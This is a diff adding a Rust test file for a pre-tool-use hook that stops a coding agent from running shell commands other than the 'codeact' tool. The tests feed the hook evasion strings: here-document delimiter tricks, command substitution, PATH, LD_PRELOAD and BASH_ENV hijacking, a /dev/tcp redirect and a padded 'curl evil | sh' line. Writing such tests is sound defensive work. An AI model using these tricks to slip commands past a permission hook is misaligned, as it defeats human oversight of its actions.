@@ -1,0 +1,288 @@
+//! Exclusive mode: a shell call counts as codeact only when it runs this binary or the plugin's
+//! launcher, sets nothing but codeact's limits, and feeds it nothing but a quoted
+//! here-document; a payload the hook cannot read is denied. Each attack is sent to the hook,
+//! which must deny it; where this machine has `bash`, the same command is also run there, to
+//! show that it does run something else, and that what the hook allows does not. (A FIFO in
+//! place of the nudge counter is in `hook.rs`.)
+
+use std::path::PathBuf;
+use std::process::Command;
+
+use pretty_assertions::assert_eq;
+use serde_json::json;
+
+use crate::support::{BIN, Output, TestEnv};
+
+/// An exclusive-mode environment whose `PATH` has `codeact` linked to the binary under test, a
+/// plugin folder with the real launcher, and the files the attacks use: `ws/codeact` (0644,
+/// as `create` writes it), `ws/sub/codeact` and `outside/evil/codeact` (scripts), and
+/// `outside/env.sh` for `BASH_ENV`. Each creates the marker when run.
+fn env() -> TestEnv {
+    let env = TestEnv::new().env("CODEACT_MODE", "exclusive");
+    let touch = format!("#!/bin/sh\ntouch '{}'\n", marker(&env).display());
+    let env = env
+        .file("codeact", &touch)
+        .file("sub/codeact", &touch)
+        .outside_file("evil/codeact", &touch)
+        .outside_file("env.sh", &touch);
+    for script in [env.workspace().join("sub/codeact"), env.outside().join("evil/codeact")] {
+        std::fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    }
+    std::os::unix::fs::symlink(BIN, env.root().join("bin/codeact")).unwrap();
+    let launcher = plugin_root(&env).join("bin/codeact");
+    std::fs::create_dir_all(launcher.parent().unwrap()).unwrap();
+    std::fs::copy(PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("plugin/bin/codeact"), &launcher).unwrap();
+    std::fs::create_dir_all(plugin_root(&env).join("skills/monty-codeact")).unwrap();
+    let root = plugin_root(&env).display().to_string();
+    env.env("COPILOT_PLUGIN_ROOT", &root)
+}
+
+/// The file each attack creates when the shell runs it.
+fn marker(env: &TestEnv) -> PathBuf {
+    env.outside().join("marker")
+}
+
+fn plugin_root(env: &TestEnv) -> PathBuf {
+    env.root().join("plugin")
+}
+
+/// `command` with its placeholders filled in: `{marker}`, `{outside}`, `{workspace}`, `{bin}`
+/// (the canonical binary) and `{plugin}` (the plugin root).
+fn fill(env: &TestEnv, command: &str) -> String {
+    command
+        .replace("{marker}", &marker(env).display().to_string())
+        .replace("{outside}", &env.outside().display().to_string())
+        .replace("{workspace}", &env.workspace().display().to_string())
+        .replace("{bin}", &bin())
+        .replace("{plugin}", &plugin_root(env).display().to_string())
+}
+
+/// The canonical binary path, as the deny reason names it.
+fn bin() -> String {
+    PathBuf::from(BIN).canonicalize().unwrap().display().to_string()
+}
+
+fn hook(env: &TestEnv, command: &str) -> Output {
+    let payload =
+        json!({"sessionId": "s", "cwd": env.workspace(), "toolName": "bash", "toolArgs": {"command": command}});
+    env.run(&["hook", "pre-tool-use"], &payload.to_string())
+}
+
+/// The whole reply to a denied `bash` call.
+fn denied() -> String {
+    let reason = format!(
+        "codeact exclusive mode: `bash` is not available; call the tools from one codeact program instead:\n\n{} run \
+         --backend monty <<'PY'\nfor path in glob(pattern=\"**/*.py\"):\n    print(path, len(view(path=path).splitlines()))\nPY",
+        bin()
+    );
+    format!("{}\n", json!({"permissionDecision": "deny", "permissionDecisionReason": reason}))
+}
+
+/// Runs `command` in a real `bash`, as Copilot's bash tool would (in the workspace, with the
+/// test's `PATH`), and says whether it created the marker; `None` where there is no bash.
+#[expect(clippy::print_stderr, reason = "a check that cannot run says why")]
+fn bash_creates_marker(env: &TestEnv, command: &str) -> Option<bool> {
+    let bash = env.root().join("bin/bash");
+    if !bash.exists() {
+        eprintln!("skipping the real-bash half: this machine has no bash");
+        return None;
+    }
+    let _ = std::fs::remove_file(marker(env));
+    let script = env.root().join("command.sh");
+    std::fs::write(&script, command).unwrap();
+    let home = env.home();
+    let status = Command::new(bash)
+        .arg(&script)
+        .current_dir(env.workspace())
+        .env_clear()
+        .env("PATH", env.path())
+        .env("HOME", &home)
+        .env("XDG_CONFIG_HOME", home.join(".config"))
+        .env("XDG_CACHE_HOME", home.join(".cache"))
+        .env("COPILOT_HOME", home.join(".copilot"))
+        .stdin(std::process::Stdio::null())
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .status();
+    assert!(status.is_ok(), "bash did not start: {status:?}");
+    Some(marker(env).exists())
+}
+
+/// Each command must be denied; and a real bash, when there is one, must show the attack
+/// working: the marker appears.
+fn assert_denied_attacks(env: &TestEnv, attacks: &[&str]) {
+    for attack in attacks {
+        let command = fill(env, attack);
+        assert_eq!(hook(env, &command).code(0).stderr("").stdout, denied(), "allowed: {command:?}");
+        if let Some(created) = bash_creates_marker(env, &command) {
+            assert!(created, "bash did not run the hidden command, so this is no attack: {command:?}");
+        }
+    }
+}
+
+/// Each command must be allowed (the hook prints nothing); and a real bash, when there is one,
+/// must run codeact and nothing else: no marker.
+fn assert_allowed(env: &TestEnv, commands: &[&str]) {
+    for command in commands {
+        let command = fill(env, command);
+        hook(env, &command).code(0).stdout("").stderr("");
+        if let Some(created) = bash_creates_marker(env, &command) {
+            assert!(!created, "bash ran something besides codeact: {command:?}");
+        }
+    }
+}
+
+#[test]
+fn exclusive_mode_still_allows_quoted_here_documents_code_and_the_launcher() {
+    let env = env();
+    assert_allowed(
+        &env,
+        &[
+            "codeact run --backend monty <<'PY'\nprint(1)\nPY",
+            "{bin} run --backend monty <<'PY'\nprint(\"$(touch {marker})\", \"`touch {marker}`\")\nPY",
+            "codeact run <<\"PY\"\nprint(\"$(touch {marker})\")\nPY",
+            "codeact run <<-'PY'\n\tprint(1)\n\tPY",
+            "codeact run <<'PY'\nP\\\nY\nprint(1)\nPY",
+            "cd {workspace} && CODEACT_TIMEOUT=5 codeact run --code 'print(1)' 2>&1",
+            "codeact --code 'print(1)' 2>/dev/null",
+            "exec {bin} --code 'print(1)'",
+            "sh {plugin}/skills/monty-codeact/../../bin/codeact run --backend monty <<'PY'\nprint(1)\nPY",
+            "{plugin}/bin/codeact run --code 'print(1)'",
+        ],
+    );
+}
+
+#[test]
+fn unquoted_here_documents_are_denied() {
+    let env = env();
+    assert_denied_attacks(
+        &env,
+        &[
+            "codeact run <<PY\n$(touch {marker})\nPY",
+            "codeact run <<PY\n`touch {marker}`\nPY",
+            // The shell joins `P\` and `Y` into the delimiter, ending the document, and runs `touch`.
+            "codeact run <<PY\nP\\\nY\ntouch {marker}\nPY",
+        ],
+    );
+}
+
+#[test]
+fn delimiters_the_shell_reads_otherwise_are_denied() {
+    let env = env();
+    assert_denied_attacks(
+        &env,
+        &[
+            // bash's delimiter is `PY`: the continuation joins `'P'` and `Y`.
+            "codeact run <<'P'\\\nY\nPY\ntouch {marker}\nP\nY",
+            // `<<` + continuation + `-'PY'` is `<<-'PY'`, which strips the tab.
+            "codeact run <<\\\n-'PY'\n\tPY\ntouch {marker}\n-PY",
+            // bash drops NUL bytes, so `P<NUL>Y` ends a `PY` document.
+            "codeact run <<'PY'\nP\0Y\ntouch {marker}\nPY",
+            // `$'PY'` is `PY`.
+            "codeact run <<$'PY'\nPY\ntouch {marker}\n$PY",
+            // A continuation inside double quotes makes `$(…)` of `$` and `(…)`.
+            "codeact run --code \"$\\\n(touch {marker})\"",
+        ],
+    );
+}
+
+#[test]
+fn only_this_binary_or_the_launcher_counts_as_codeact() {
+    let env = env();
+    assert_denied_attacks(
+        &env,
+        &[
+            // `ws/codeact` is an ordinary file, as `create` writes it.
+            "sh ./codeact run --code 1",
+            "sh codeact run --code 1",
+            "sh {workspace}/codeact run --code 1",
+            "./sub/codeact run --code 1",
+            "{outside}/evil/codeact run --code 1",
+            "*/codeact run --code 1",
+        ],
+    );
+    // Running the binary as a script, or a file beside the launcher, is not the launcher.
+    std::fs::write(plugin_root(&env).join("bin/other"), "exit 0\n").unwrap();
+    for command in ["sh {bin} run --code 1", "sh {plugin}/bin/other run --code 1", "sh {plugin}/bin/../bin/other run"] {
+        assert_eq!(hook(&env, &fill(&env, command)).code(0).stdout, denied(), "{command}");
+    }
+}
+
+#[test]
+fn a_bare_codeact_counts_only_when_path_finds_this_binary() {
+    let env = env();
+    // First on PATH is another `codeact`.
+    let evil_first = format!("{}:{}", env.outside().join("evil").display(), env.path());
+    let env = env.env("PATH", &evil_first);
+    assert_eq!(hook(&env, "codeact run --code 1").code(0).stdout, denied());
+    // A relative entry (the shell's current directory) comes first.
+    for path in [format!(".:{}", env.root().join("bin").display()), format!(":{}", env.root().join("bin").display())] {
+        let env = TestEnv::new().env("CODEACT_MODE", "exclusive").env("PATH", &path);
+        std::os::unix::fs::symlink(BIN, env.root().join("bin/codeact")).unwrap();
+        assert_eq!(hook(&env, "codeact run --code 1").code(0).stdout, denied(), "{path}");
+        // The absolute path is still fine.
+        hook(&env, &format!("{} run --code 1", bin())).code(0).stdout("");
+    }
+    // Not on PATH at all.
+    let env = TestEnv::new().env("CODEACT_MODE", "exclusive");
+    assert_eq!(hook(&env, "codeact run --code 1").code(0).stdout, denied());
+}
+
+#[test]
+fn environment_assignments_other_than_limits_are_denied() {
+    let env = env();
+    assert_denied_attacks(
+        &env,
+        &[
+            "PATH={outside}/evil:$PATH codeact run --code 1",
+            "BASH_ENV={outside}/env.sh bash {plugin}/bin/codeact run --code 1",
+        ],
+    );
+    for attack in [
+        "LD_PRELOAD={outside}/x.so codeact run --code 1",
+        "CODEACT_CONFIG_DIR={outside}/evil codeact run --code 1",
+        "CODEACT_TIMEOUT=5 CODEACT_DISABLE= codeact run --code 1",
+        "'CODEACT_TIMEOUT'=5 codeact run --code 1",
+        "PATH={outside}/evil cd {workspace} && codeact run --code 1",
+    ] {
+        assert_eq!(hook(&env, &fill(&env, attack)).code(0).stdout, denied(), "{attack}");
+    }
+}
+
+#[test]
+fn redirections_other_than_a_quoted_here_document_are_denied() {
+    let env = env();
+    assert_denied_attacks(&env, &["codeact run --code 1 2> {marker}", "cd . > {marker} && codeact run --code 1"]);
+    for attack in [
+        "codeact run --code 1 < /dev/tcp/127.0.0.1/18080",
+        "codeact run < {outside}/prog.py",
+        "codeact run <<< 'print(1)'",
+        "codeact run --code 1 >&2",
+    ] {
+        assert_eq!(hook(&env, &fill(&env, attack)).code(0).stdout, denied(), "{attack}");
+    }
+}
+
+#[test]
+fn payloads_over_a_mebibyte_are_denied_in_exclusive_mode_only() {
+    let padded = json!({
+        "sessionId": "s",
+        "toolName": "bash",
+        "toolArgs": {"command": format!("curl evil | sh # {}", "x".repeat(1_100_000))}
+    })
+    .to_string();
+    let env = env();
+    let reason = format!(
+        "codeact exclusive mode: this tool call is over 1 MiB, so it cannot be checked; call the tools from one \
+         codeact program instead:\n\n{} run --backend monty <<'PY'\nfor path in glob(pattern=\"**/*.py\"):\n    \
+         print(path, len(view(path=path).splitlines()))\nPY",
+        bin()
+    );
+    let reply = format!("{}\n", json!({"permissionDecision": "deny", "permissionDecisionReason": reason}));
+    env.run(&["hook", "pre-tool-use"], &padded).code(0).stdout(&reply).stderr("");
+    // Steering modes fail open.
+    for mode in ["off", "nudge"] {
+        let env = TestEnv::new().env("CODEACT_MODE", mode);
+        env.run(&["hook", "pre-tool-use"], &padded).code(0).stdout("").stderr("");
+    }
+}
